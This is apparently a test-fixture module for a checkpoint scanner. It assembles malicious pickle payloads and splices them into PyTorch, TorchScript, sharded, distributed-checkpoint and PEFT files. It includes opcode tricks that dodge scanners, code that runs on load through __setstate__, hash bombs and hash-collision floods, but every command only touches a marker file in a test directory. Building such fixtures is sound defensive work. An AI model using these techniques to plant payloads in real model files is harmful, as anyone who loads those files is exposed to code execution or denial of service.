"""A corpus of hostile checkpoints, built at test time: pickle payloads and the files that carry them.

Every payload's action is harmless and observable: it creates a marker file in the test's tmp_path. A
test asserts the marker never appears (modinspect ran nothing) or, under --unsafe-pickle, that it does.

A payload is an opcode *body* that pushes one value (the result of the call). Bodies splice into any
pickle: as a whole pickle (`as_pickle`), or in place of a placeholder string inside a checkpoint that
torch.save wrote, so the payload sits beside real tensors (`splice`).
"""

from __future__ import annotations

import importlib
import io
import os
import pickle
import pickletools
import struct
import subprocess
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from torch import nn

SLOT = "MODINSPECT_PAYLOAD_SLOT"

# ---------------------------------------------------------------- opcodes


def su(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    raw = s.encode()
    assert len(raw) < 256
    return b"\x8c" + bytes([len(raw)]) + raw


def bu(s: str) -> bytes:
    """BINUNICODE (protocol 2)."""
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


MARK, TUPLE, TUPLE1, REDUCE, POP, POP_MARK = b"(", b"t", b"\x85", b"R", b"0", b"1"
STACK_GLOBAL, MEMOIZE, EMPTY_LIST, APPENDS = b"\x93", b"\x94", b"]", b"e"


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def long_binput(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def long_binget(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def frame(n: int) -> bytes:
    return b"\x95" + struct.pack("<Q", n)


def as_pickle(body: bytes, protocol: int) -> bytes:
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + b"."


# ---------------------------------------------------------------- __reduce__ payloads


def _code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


class ReduceSystem:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (f"touch {self.marker}",))


class ReducePopen:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (subprocess.Popen, (["touch", str(self.marker)],))


class ReduceExec:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (exec, (_code(self.marker),))


class ReduceEval:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (eval, (_code(self.marker),))


class _ImportOs:
    def __reduce__(self) -> tuple[object, ...]:
        return (importlib.import_module, ("os",))


class _GetSystem:
    def __reduce__(self) -> tuple[object, ...]:
        return (getattr, (_ImportOs(), "system"))

    def __call__(
        self, *args: Any
    ) -> None:  # pickle wants a callable here; unpickling puts os.system there
        raise AssertionError("never called")


class ReduceImportGetattr:
    """getattr(importlib.import_module('os'), 'system')('touch MARKER'): a chain of reductions."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return (_GetSystem(), (f"touch {self.marker}",))


def reduced_body(factory: Callable[[Path], object]) -> Callable[[Path], bytes]:
    """The opcode body pickle itself writes for an object (protocol 2, PROTO and STOP stripped)."""

    def body(marker: Path) -> bytes:
        data = pickle.dumps(factory(marker), protocol=2)
        assert data[:2] == b"\x80\x02" and data[-1:] == b"."
        return data[2:-1]

    return body


# ---------------------------------------------------------------- hand-assembled payloads


def global_p0_exec(marker: Path) -> bytes:
    return b"cbuiltins\nexec\n(V" + _code(marker).encode() + b"\ntR"


def global_p0_system(marker: Path) -> bytes:
    return b"cos\nsystem\n(V" + f"touch {marker}".encode() + b"\ntR"


def inst_p0_popen(marker: Path) -> bytes:
    # MARK, MARK 'touch' MARKER LIST -> ['touch', MARKER]; INST subprocess.Popen pops to the first MARK.
    return b"((Vtouch\nV" + str(marker).encode() + b"\nlisubprocess\nPopen\n"


def global_p2_getattr_import(marker: Path) -> bytes:
    # getattr(__import__('os'), 'system')('touch MARKER')
    return (
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n("
        + bu("os")
        + b"tR"
        + bu("system")
        + b"tR("
        + bu(f"touch {marker}")
        + b"tR"
    )


def stack_global_p4_eval(marker: Path) -> bytes:
    return (
        su("builtins")
        + MEMOIZE
        + su("eval")
        + MEMOIZE
        + STACK_GLOBAL
        + su(_code(marker))
        + TUPLE1
        + REDUCE
    )


def stack_global_p4_system(marker: Path) -> bytes:
    return su("os") + su("system") + STACK_GLOBAL + su(f"touch {marker}") + TUPLE1 + REDUCE


def memo_binput_binget(marker: Path) -> bytes:
    """Names parked in the memo (BINPUT, then POP) and fetched back (BINGET) just before STACK_GLOBAL."""
    return (
        bu("builtins")
        + binput(0)
        + POP
        + bu("exec")
        + binput(1)
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + bu(_code(marker))
        + TUPLE1
        + REDUCE
    )


def memo_memoize_decoy(marker: Path, memo_base: int = 0) -> bytes:
    """MEMOIZE'd names, then a safe-looking decoy pair thrown away with POP_MARK right before STACK_GLOBAL.

    A scanner that reads the last two string literals would see collections.OrderedDict. MEMOIZE
    numbers its slots implicitly (the memo's size), so a spliced body needs the size at the splice.
    """
    return (
        su("subprocess")
        + MEMOIZE
        + POP
        + su("Popen")
        + MEMOIZE
        + POP
        + MARK
        + su("collections")
        + su("OrderedDict")
        + POP_MARK
        + long_binget(memo_base)
        + long_binget(memo_base + 1)
        + STACK_GLOBAL
        + EMPTY_LIST
        + MARK
        + su("touch")
        + su(str(marker))
        + APPENDS
        + TUPLE1
        + REDUCE
    )


def memo_overwrite(marker: Path) -> bytes:
    """LONG_BINPUT parks 'collections' in slot 5, then overwrites the slot with 'builtins'."""
    return (
        bu("collections")
        + long_binput(5)
        + POP
        + bu("builtins")
        + long_binput(5)
        + POP
        + bu("exec")
        + long_binput(6)
        + POP
        + long_binget(5)
        + long_binget(6)
        + STACK_GLOBAL
        + bu(_code(marker))
        + TUPLE1
        + REDUCE
    )


def frame_split(marker: Path) -> bytes:
    """An empty FRAME between the two names: no stack effect, but it breaks a scanner counting pushes."""
    return (
        su("builtins") + frame(0) + su("exec") + STACK_GLOBAL + su(_code(marker)) + TUPLE1 + REDUCE
    )


def dup_pop(marker: Path) -> bytes:
    """DUP and POP shuffle the names: the stack holds builtins, exec when STACK_GLOBAL runs."""
    return (
        su("builtins")
        + b"2"
        + POP
        + su("exec")
        + b"2"
        + b"2"
        + POP
        + POP
        + STACK_GLOBAL
        + su(_code(marker))
        + TUPLE1
        + REDUCE
    )


def dotted_getattr(marker: Path) -> bytes:
    """Protocol 4 resolves dotted names attribute by attribute: subprocess -> .os -> .system."""
    return (
        su("subprocess") + su("os.system") + STACK_GLOBAL + su(f"touch {marker}") + TUPLE1 + REDUCE
    )


def copyreg_extension(marker: Path) -> bytes:
    """EXT1: a global named by a number in copyreg's extension registry."""
    return b"\x82\x01" + su(f"touch {marker}") + TUPLE1 + REDUCE


@dataclass(frozen=True)
class Payload:
    name: str
    body: Callable[..., bytes]  # body(marker), or body(marker, memo_base) when memo_relative
    protocol: int  # of the opcodes it uses: 0 text, 2 binary GLOBAL, 4 STACK_GLOBAL/MEMOIZE
    globals: tuple[
        str, ...
    ]  # what the refusal must name (os.system pickles as posix.system on Linux)
    runs_under_plain_pickle: bool = True
    asynchronous: bool = False  # starts a process: its marker may appear a moment later
    memo_relative: bool = False  # uses MEMOIZE'd slots: needs the memo size where it is spliced


PAYLOADS = [
    Payload("reduce-os-system", reduced_body(ReduceSystem), 2, (f"{os.system.__module__}.system",)),
    # Protocol 2 spells it commands.Popen (fix_imports); the refusal names what would be imported.
    Payload(
        "reduce-subprocess-popen",
        reduced_body(ReducePopen),
        2,
        ("subprocess.Popen",),
        asynchronous=True,
    ),
    Payload("reduce-builtins-exec", reduced_body(ReduceExec), 2, ("builtins.exec",)),
    Payload("reduce-builtins-eval", reduced_body(ReduceEval), 2, ("builtins.eval",)),
    Payload(
        "reduce-import-module-getattr",
        reduced_body(ReduceImportGetattr),
        2,
        ("builtins.getattr", "importlib.import_module"),
    ),
    Payload("global-p0-exec", global_p0_exec, 0, ("builtins.exec",)),
    Payload("global-p0-os-system", global_p0_system, 0, ("os.system",)),
    Payload("inst-p0-popen", inst_p0_popen, 0, ("subprocess.Popen",), asynchronous=True),
    Payload(
        "global-p2-getattr-import",
        global_p2_getattr_import,
        2,
        ("builtins.__import__", "builtins.getattr"),
    ),
    Payload("stack-global-p4-eval", stack_global_p4_eval, 4, ("builtins.eval",)),
    Payload("stack-global-p4-os-system", stack_global_p4_system, 4, ("os.system",)),
    Payload("memo-binput-binget", memo_binput_binget, 4, ("builtins.exec",)),
    Payload(
        "memo-memoize-decoy",
        memo_memoize_decoy,
        4,
        ("subprocess.Popen",),
        asynchronous=True,
        memo_relative=True,
    ),
    Payload("memo-long-binput-overwrite", memo_overwrite, 4, ("builtins.exec",)),
    Payload("frame-split-names", frame_split, 4, ("builtins.exec",)),
    Payload("dup-pop-shuffle", dup_pop, 4, ("builtins.exec",)),
    Payload("dotted-getattr-chain", dotted_getattr, 4, ("subprocess.os.system",)),
    Payload(
        "copyreg-extension",
        copyreg_extension,
        4,
        ("<copyreg extension 1>",),
        runs_under_plain_pickle=False,
    ),
]
BY_NAME = {p.name: p for p in PAYLOADS}

# ---------------------------------------------------------------- carriers


class Tiny(nn.Module):
    """The victim model; its source lives in a real file so torch.jit.script can read it."""

    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(4, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x)


VICTIM_PY = """
import torch
from torch import nn


class Tiny(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 3)

    def forward(self, x):
        return self.fc(x)


def build():
    torch.manual_seed(0)
    return Tiny()
"""


def state_dict() -> dict[str, torch.Tensor]:
    torch.manual_seed(0)
    return Tiny().state_dict()


Body = Callable[[int], bytes]  # memo size at the splice point -> opcodes


def memo_size_at(pkl: bytes, offset: int) -> int:
    """How many memo slots a pickle has filled before `offset`."""
    memo: set[int] = set()
    for op, arg, pos in pickletools.genops(pkl):
        if pos is None or pos >= offset:
            break
        if op.name in ("PUT", "BINPUT", "LONG_BINPUT"):
            memo.add(int(str(arg)))
        elif op.name == "MEMOIZE":
            memo.add(len(memo))
    return len(memo)


def splice(pkl: bytes, body: Body) -> bytes:
    """Replace the BINUNICODE placeholder SLOT in a pickle torch.save wrote with the payload's opcodes."""
    slot = bu(SLOT)
    assert pkl.count(slot) == 1, "placeholder not found exactly once"
    at = pkl.index(slot)
    start = _pickle_start(pkl, at)
    return pkl[:at] + body(memo_size_at(pkl[start:], at - start)) + pkl[at + len(slot) :]


def _pickle_start(data: bytes, offset: int) -> int:
    """Where the pickle holding byte `offset` starts (a legacy file is several pickles in a row)."""
    stream = io.BytesIO(data)
    start = 0
    while True:
        for _ in pickletools.genops(stream):
            pass
        if stream.tell() > offset:
            return start
        start = stream.tell()


def rewrite_zip(path: Path, edit: Callable[[str, bytes], bytes]) -> None:
    """Rewrite every entry of a zip file through `edit(name, data)`, keeping names and order."""
    with zipfile.ZipFile(path) as zf:
        entries = [(info.filename, zf.read(info)) for info in zf.infolist()]
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in entries:
            zf.writestr(name, edit(name, data))


def zip_pt(folder: Path, body: Body, name: str = "evil.pt") -> Path:
    """A torch.save zip checkpoint {'state_dict': <tensors>, 'payload': <body>}."""
    path = folder / name
    torch.save({"state_dict": state_dict(), "payload": SLOT}, path)
    rewrite_zip(path, lambda n, d: splice(d, body) if n.endswith("/data.pkl") else d)
    return path


def legacy_pt(folder: Path, body: Body, name: str = "evil_legacy.pt") -> Path:
    """The same in the pre-1.6 format: magic, protocol, system info, the object pickle, keys, storages."""
    buf = io.BytesIO()
    torch.save(
        {"state_dict": state_dict(), "payload": SLOT}, buf, _use_new_zipfile_serialization=False
    )
    path = folder / name
    path.write_bytes(splice(buf.getvalue(), body))
    return path


def raw_pkl(folder: Path, body: Body, protocol: int, name: str = "evil.pkl") -> Path:
    """A plain pickle file. Protocol 0 and 1 files do not start with PROTO and are refused unread."""
    path = folder / name
    path.write_bytes(as_pickle(body(0), max(protocol, 2)))
    return path


def training_checkpoint(folder: Path, body: Body, name: str = "evil_ckpt.pt") -> Path:
    """A training checkpoint with the payload deep inside the optimizer's param_groups."""
    sd = state_dict()
    ckpt = {
        "epoch": 7,
        "model_state_dict": sd,
        "optimizer_state_dict": {
            "state": {0: {"momentum_buffer": torch.zeros(3, 4)}},
            "param_groups": [{"lr": 0.1, "params": [0, 1], "scheduler": {"kind": SLOT}}],
        },
        "best_metric": 0.93,
    }
    path = folder / name
    torch.save(ckpt, path)
    rewrite_zip(path, lambda n, d: splice(d, body) if n.endswith("/data.pkl") else d)
    return path


def sharded_bin(folder: Path, body: Body, name: str = "evil_sharded") -> Path:
    """A pytorch_model.bin.index.json naming two .bin shards; the second carries the payload."""
    import json

    folder = folder / name
    folder.mkdir()
    sd = state_dict()
    torch.save({"fc.weight": sd["fc.weight"]}, folder / "pytorch_model-00001-of-00002.bin")
    shard2 = folder / "pytorch_model-00002-of-00002.bin"
    torch.save(
        {"fc.bias": sd["fc.bias"], "fc._extra_state": SLOT}, shard2
    )  # extra state: not a tensor
    rewrite_zip(shard2, lambda n, d: splice(d, body) if n.endswith("/data.pkl") else d)
    weight_map = {
        "fc.weight": "pytorch_model-00001-of-00002.bin",
        "fc.bias": "pytorch_model-00002-of-00002.bin",
    }
    (folder / "pytorch_model.bin.index.json").write_text(
        json.dumps({"metadata": {}, "weight_map": weight_map})
    )
    return folder


def torchscript(
    folder: Path, body: Body, member: str = "data.pkl", name: str = "evil_scripted.pt"
) -> Path:
    """A real torch.jit.script(...).save() archive whose data.pkl (or constants.pkl) is the payload."""
    import warnings

    path = folder / name
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.script(Tiny()).save(str(path))
    rewrite_zip(path, lambda n, d: as_pickle(body(0), 2) if n.endswith(f"/{member}") else d)
    return path


def dcp_metadata(folder: Path, body: Body, protocol: int, name: str = "evil_dcp") -> Path:
    """A torch.distributed.checkpoint directory written by dcp.save, whose .metadata is the payload."""
    import torch.distributed.checkpoint as dcp

    folder = folder / name
    dcp.save(state_dict(), checkpoint_id=str(folder))  # type: ignore[attr-defined]  # torch re-exports dcp.save without __all__
    (folder / ".metadata").write_bytes(as_pickle(body(0), max(protocol, 2)))
    return folder


def peft_adapter_bin(folder: Path, body: Body, name: str = "evil_adapter") -> Path:
    """A PEFT adapter directory whose adapter_model.bin carries the payload beside its tensors."""
    import json

    folder = folder / name
    folder.mkdir()
    (folder / "adapter_config.json").write_text(
        json.dumps({"peft_type": "LORA", "r": 2, "target_modules": ["fc"]})
    )
    zip_pt(folder, body, "adapter_model.bin")
    return folder


def body_of(payload: Payload, marker: Path) -> Body:
    """The payload's opcodes for a splice point with `memo_base` memo slots already filled."""
    return lambda memo_base: (
        payload.body(marker, memo_base) if payload.memo_relative else payload.body(marker)
    )


# name -> builder(folder, body, payload protocol) -> SOURCE path
CARRIERS: dict[str, Callable[[Path, Body, int], Path]] = {
    "zip-pt": lambda f, b, p: zip_pt(f, b),
    "legacy-pt": lambda f, b, p: legacy_pt(f, b),
    "raw-pkl": raw_pkl,
    "training-checkpoint": lambda f, b, p: training_checkpoint(f, b),
    "sharded-bin": lambda f, b, p: sharded_bin(f, b),
    "torchscript-data-pkl": lambda f, b, p: torchscript(f, b, "data.pkl"),
    "torchscript-constants-pkl": lambda f, b, p: torchscript(f, b, "constants.pkl"),
    "dcp-metadata": dcp_metadata,
    "peft-adapter-bin": lambda f, b, p: peft_adapter_bin(f, b),
}
# Carriers a model can be built from (entry point + --weights), and files --input accepts.
WEIGHTS_CARRIERS = [
    "zip-pt",
    "legacy-pt",
    "raw-pkl",
    "training-checkpoint",
    "sharded-bin",
    "torchscript-data-pkl",
    "dcp-metadata",
    "peft-adapter-bin",
]
INPUT_CARRIERS = ["zip-pt", "legacy-pt", "raw-pkl", "training-checkpoint", "torchscript-data-pkl"]


def write_victim(folder: Path) -> str:
    """victim.py:build, an entry point whose model matches every carrier's state dict."""
    (folder / "victim.py").write_text(VICTIM_PY)
    return "victim.py:build"


def clean_checkpoint(folder: Path) -> Path:
    path = folder / "clean.pt"
    torch.save(state_dict(), path)
    return path


# ---------------------------------------------------------------- hand-editing zip headers


def central_entries(data: bytes) -> dict[str, int]:
    """Offset of each entry's central directory record, by name (no zip64 here)."""
    end = data.rindex(b"PK\x05\x06")
    count, _size, start = struct.unpack("<HII", data[end + 10 : end + 20])
    out = {}
    at = start
    for _ in range(count):
        assert data[at : at + 4] == b"PK\x01\x02"
        n, m, k = struct.unpack("<HHH", data[at + 28 : at + 34])
        out[data[at + 46 : at + 46 + n].decode()] = at
        at += 46 + n + m + k
    return out


def local_entries(data: bytes) -> dict[str, int]:
    """Offset of each entry's local file header, by name."""
    return {
        name: struct.unpack("<I", data[at + 42 : at + 46])[0]
        for name, at in central_entries(data).items()
    }


# Field offsets inside a central directory record and a local file header.
CD_FLAGS, CD_METHOD, CD_CRC, CD_CSIZE, CD_USIZE, CD_OFFSET = 8, 10, 16, 20, 24, 42
LH_FLAGS, LH_METHOD, LH_CRC, LH_CSIZE, LH_USIZE = 6, 8, 14, 18, 22


def patch(data: bytes, at: int, fmt: str, value: int) -> bytes:
    size = struct.calcsize(fmt)
    return data[:at] + struct.pack(fmt, value) + data[at + size :]


def entry_named(data: bytes, suffix: str) -> str:
    return next(n for n in central_entries(data) if n.endswith(suffix))


# ---------------------------------------------------------------- TorchScript code that runs on load


class SetstateWriter(nn.Module):
    """A TorchScript module whose __setstate__ writes a file: torch.jit.load runs it, nothing else may."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.marker, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.marker = state[0]
        self.training = state[1]
        torch.save(torch.ones(1), self.marker)  # any file the user can write

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


class ScriptedVictim(nn.Module):
    """Tiny's tensors (fc) beside the writer, so the archive also works as Tiny's checkpoint."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.fc = nn.Linear(4, 3)
        self.hook = SetstateWriter(marker)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.hook(self.fc(x))


def setstate_torchscript(folder: Path, marker: Path, name: str = "setstate.pt") -> Path:
    """A real torch.jit.script(...).save() archive that writes `marker` whenever torch.jit.load opens it."""
    import warnings

    path = folder / name
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.script(ScriptedVictim(str(marker))).save(str(path))
    return path


def setstate_shards(folder: Path, marker: Path) -> Path:
    """A pytorch_model.bin.index.json whose second shard is the setstate archive."""
    import json

    folder = folder / "setstate_sharded"
    folder.mkdir()
    torch.save(
        {"fc.weight": state_dict()["fc.weight"]}, folder / "pytorch_model-00001-of-00002.bin"
    )
    setstate_torchscript(folder, marker, "pytorch_model-00002-of-00002.bin")
    weight_map = {
        "fc.weight": "pytorch_model-00001-of-00002.bin",
        "fc.bias": "pytorch_model-00002-of-00002.bin",
    }
    (folder / "pytorch_model.bin.index.json").write_text(
        json.dumps({"metadata": {}, "weight_map": weight_map})
    )
    return folder


def dcp_with_expanded_chunk(
    folder: Path, shape: tuple[int, ...], stride: tuple[int, ...], value: float = 2.5
) -> Path:
    """A dcp.save directory whose tensor 'huge' is one float, `value`, viewed as `shape` with `stride` (e.g. 0).

    dcp.save copies views into whole tensors, so the chunk is rewritten: torch.save of the view (which keeps
    its one-float storage), with the .metadata's sizes and byte range to match.
    """
    import dataclasses
    import pickle

    import torch.distributed.checkpoint as dcp

    dcp.save({"huge": torch.full((1,), value)}, checkpoint_id=str(folder))  # type: ignore[attr-defined]  # torch re-exports dcp.save without __all__
    meta = folder / ".metadata"
    md = pickle.loads(meta.read_bytes())  # our own file, just written by torch
    entry = md.state_dict_metadata["huge"]
    entry.size = entry.chunks[0].sizes = torch.Size(shape)
    entry.chunks[0].offsets = torch.Size([0] * len(shape))
    buf = io.BytesIO()
    torch.save(torch.full((1,), value).as_strided(shape, stride), buf)
    [(index, info)] = md.storage_data.items()
    (folder / info.relative_path).write_bytes(buf.getvalue())
    md.storage_data = {
        dataclasses.replace(index, offset=torch.Size([0] * len(shape))): dataclasses.replace(
            info, offset=0, length=len(buf.getvalue())
        )
    }
    meta.write_bytes(pickle.dumps(md, protocol=2))
    return folder


# ---------------------------------------------------------------- cost bombs (no globals that run code)


def tower_of_tuples(levels: int, memo_slot: int = 0) -> bytes:
    """Opcodes that push one tuple holding the tuple below it twice, `levels` deep: 17 bytes a level,
    2^levels items to hash. The level below is fetched from a memo slot (LONG_BINGET), so a spliced
    body can use a slot past the pickle's own (`memo_slot`)."""
    out = b")" + long_binput(memo_slot)
    for _ in range(levels):
        out += (
            POP + long_binget(memo_slot) + long_binget(memo_slot) + b"\x86" + long_binput(memo_slot)
        )
    return out


def hash_bomb(levels: int = 100, memo_slot: int = 0) -> bytes:
    """A body that pushes {tower: 1}: unpickling it hashes the tower, 2^levels items (2^100 in 1.7 KB)."""
    return b"}" + tower_of_tuples(levels, memo_slot) + b"K\x01s"


def hash_bomb_by_dup(levels: int = 100) -> bytes:
    """The same tower built with DUP instead of the memo: 2 bytes a level."""
    return b"})" + b"2\x86" * levels + b"K\x01s"


# ---------------------------------------------------------------- hash-collision floods
# Python's hash of numbers and of tuples of them is not randomized: keys chosen to share one hash value make
# each insertion into a dict or set compare with every key before it (quadratic time, no sharing needed).

MERSENNE_61 = 2**61 - 1  # an int's hash is its value mod this prime
_XX1, _XX2, _XX5, _M64 = 11400714785074694791, 14029467366897019727, 2870177450012600261, 2**64 - 1


def _lane_of(acc: int, lane: int) -> int:
    acc = (acc + lane * _XX2) & _M64
    acc = ((acc << 31) | (acc >> 33)) & _M64
    return (acc * _XX1) & _M64


def pair_lane_for(first: object, target: int) -> int:
    """The hash (a signed 64-bit value) that `second` needs for hash((first, second)) == target: CPython's
    tuple hash (xxHash's round per item, then the length mixed in) inverted for its last item."""
    acc = (target - (2 ^ (_XX5 ^ 3527539))) & _M64
    acc = (acc * pow(_XX1, -1, 2**64)) & _M64
    acc = ((acc >> 31) | (acc << 33)) & _M64
    lane = ((acc - _lane_of(_XX5, hash(first) & _M64)) * pow(_XX2, -1, 2**64)) & _M64
    return lane - 2**64 if lane >= 2**63 else lane


def int_with_hash(h: int) -> int | None:
    """An int whose hash is h, or None where no int has it (|h| past 2^61 - 1, or -1)."""
    return h if -MERSENNE_61 < h < MERSENNE_61 and h != -1 else None


def float_with_hash(h: int) -> float | None:
    """A float a * 2^-k (a < 2^53) whose hash is h, or None: hash(a * 2^-k) is a * 2^(61-k) mod 2^61 - 1."""
    if int_with_hash(h) is None or h == 0:
        return None
    sign, value = (1.0, h) if h > 0 else (-1.0, -h)
    for k in range(61):
        a = (value << k) % MERSENNE_61
        if a < 2**53:
            f = sign * a * 2.0**-k
            return f if hash(f) == h else None
    return None


def colliding_ints(n: int) -> list[int]:
    """n ints i * (2^61 - 1): each hashes to 0."""
    return [i * MERSENNE_61 for i in range(1, n + 1)]


def colliding_small_int_tuples(n: int) -> list[tuple[int, ...]]:
    """n tuples of -1 and -2 (BININTs): hash(-1) == hash(-2), so every such tuple of one length collides."""
    width = max(1, (n - 1).bit_length())
    return [tuple(-1 - ((i >> b) & 1) for b in range(width)) for i in range(n)]


def colliding_int_pairs(n: int) -> list[tuple[int, int]]:
    """n pairs (i, x) with i small and x solved by inverting the tuple hash: all share one hash value."""
    out: list[tuple[int, int]] = []
    target, i = hash((0, 12345)), 0
    while len(out) < n:
        x = int_with_hash(pair_lane_for(i, target))
        if x is not None:
            out.append((i, x))
        i += 1
    return out


def colliding_frozensets(n: int) -> list[frozenset[int]]:
    """n frozensets of 50 ints from 1..100 that share one hash value, found by linear algebra over GF(2).

    A frozenset's hash is a bijection of the XOR of its elements' shuffled hashes and of its size, so the
    subsets of 1..100 whose shuffled hashes XOR to 0 (a null space of dimension 36 or more) all collide
    within one size: small ints only, nothing a number count would notice.
    """
    import random

    mask = (1 << 64) - 1

    def shuffled(h: int) -> int:  # CPython's _shuffle_bits (Objects/setobject.c)
        return (((h ^ 89869747) ^ (h << 16)) * 3644798167) & mask

    basis: dict[int, tuple[int, int]] = {}
    null: list[int] = []
    for index in range(100):
        vector, combo = shuffled(index + 1), 1 << index
        for bit in range(63, -1, -1):
            if not (vector >> bit) & 1:
                continue
            if bit not in basis:
                basis[bit] = (vector, combo)
                break
            vector, combo = vector ^ basis[bit][0], combo ^ basis[bit][1]
        if vector == 0:
            null.append(combo)
    out: list[frozenset[int]] = []
    rng, seen = random.Random(0), set()
    while len(out) < n:
        combo = 0
        for z in null:
            if rng.random() < 0.5:
                combo ^= z
        if combo.bit_count() == 50 and combo not in seen:
            seen.add(combo)
            out.append(frozenset(k + 1 for k in range(100) if combo >> k & 1))
    return out


def colliding_float_pairs(n: int) -> list[tuple[float, float]]:
    """n pairs of floats (i, x), x solved by inverting the tuple hash: all share one hash value."""
    out: list[tuple[float, float]] = []
    target, i = hash((0.5, 0.25)), 0
    while len(out) < n:
        x = float_with_hash(pair_lane_for(float(i), target))
        if x is not None:
            out.append((float(i), x))
        i += 1
    return out


def _without_memo(value: object, protocol: int = 2) -> bytes:
    """The opcodes that push `value` (protocol 2, or 3: no frame either, and `builtins` for the names that
    protocol 2 writes as `__builtin__`), with no memo opcodes, so they splice anywhere."""
    out = io.BytesIO()
    pickler = pickle.Pickler(out, protocol=protocol)
    pickler.fast = True  # no memo
    pickler.dump(value)
    return out.getvalue()[2:-1]


def collision_flood(keys: Sequence[object], protocol: int = 2, as_set: bool = False) -> bytes:
    """A body that pushes a dict {key: 0} (or a set) of `keys`, in batches of 1,000 as pickle writes them, built
    opcode by opcode (building the dict here would take the quadratic time). A set is builtins.set([...]) in
    protocol 2, EMPTY_SET and ADDITEMS in 4."""
    pushed = [_without_memo(k, 2 if protocol < 3 else 3) for k in keys]
    batches = [pushed[i : i + 1000] for i in range(0, len(pushed), 1000)]
    if not as_set:
        return b"}" + b"".join(
            MARK + b"".join(k + b"K\x00" for k in batch) + b"u" for batch in batches
        )
    if protocol >= 4:
        return b"\x8f" + b"".join(MARK + b"".join(batch) + b"\x90" for batch in batches)
    return (
        b"c__builtin__\nset\n]"
        + b"".join(MARK + b"".join(batch) + APPENDS for batch in batches)
        + TUPLE1
        + REDUCE
    )


def list_of_a_long_string(chars: int) -> bytes:
    """A body that pushes builtins.list('a' * chars): `chars` bytes of pickle, 8 bytes of list per char."""
    return b"cbuiltins\nlist\n" + bu("a" * chars) + TUPLE1 + REDUCE


# ---------------------------------------------------------------- payloads outside the code-execution list
# Each runs a command or creates a file when torch.load calls it, but its global is not on the list of
# names refused outright: the file lists, with its globals as stand-ins and a warning that names them.


def _called(module: str, name: str, *args: str) -> bytes:
    return (
        b"c"
        + module.encode()
        + b"\n"
        + name.encode()
        + b"\n("
        + b"".join(bu(a) for a in args)
        + b"tR"
    )


CALLED_PAYLOADS = [
    Payload(
        "uuid-get-command-stdout",
        lambda m: _called("uuid", "_get_command_stdout", "touch", str(m)),
        2,
        ("uuid._get_command_stdout",),
    ),
    Payload(
        "logging-file-handler",
        lambda m: _called("logging", "FileHandler", str(m)),
        2,
        ("logging.FileHandler",),
    ),
    Payload(
        "imaplib-imap4-stream",
        lambda m: _called("imaplib", "IMAP4_stream", f"touch {m}"),
        2,
        ("imaplib.IMAP4_stream",),
    ),
    Payload(
        "osx-support-read-output",
        lambda m: _called("_osx_support", "_read_output", f"touch {m}"),
        2,
        ("_osx_support._read_output",),
    ),
    Payload(
        "torch-collect-env-run",
        lambda m: _called("torch.utils.collect_env", "run", f"touch {m}"),
        2,
        ("torch.utils.collect_env.run",),
    ),
]


# ---------------------------------------------------------------- branch torchao: tensor subclasses in pickles


class Int8Tensor:
    """Pickles as torchao's Int8Tensor does (`_rebuild_from_type_v2` of `_rebuild_wrapper_subclass`, the inner
    tensors in the state), with a recorded shape of its own: the gate stands in for this class."""

    def __init__(self, shape: tuple[int, ...], parts: int = 1, inner: object = None) -> None:
        self.shape = shape
        self.parts = (
            parts  # how many times the state holds `inner` (another of these), besides qdata
        )
        self.inner = inner

    def __reduce_ex__(self, protocol: object) -> tuple[object, ...]:
        from torch._tensor import _rebuild_from_type_v2
        from torch._utils import _rebuild_wrapper_subclass

        stride = (self.shape[1], 1)
        args = (Int8Tensor, torch.float32, self.shape, stride, 0, torch.strided, "cpu", False)
        state: dict[str, object] = {
            "qdata": torch.zeros(4, 4, dtype=torch.int8),
            "scale": torch.ones(4, 1),
        }
        if self.inner is not None:
            state.update({f"impl{i}": self.inner for i in range(self.parts)})
        return (_rebuild_from_type_v2, (_rebuild_wrapper_subclass, Int8Tensor, args, state))
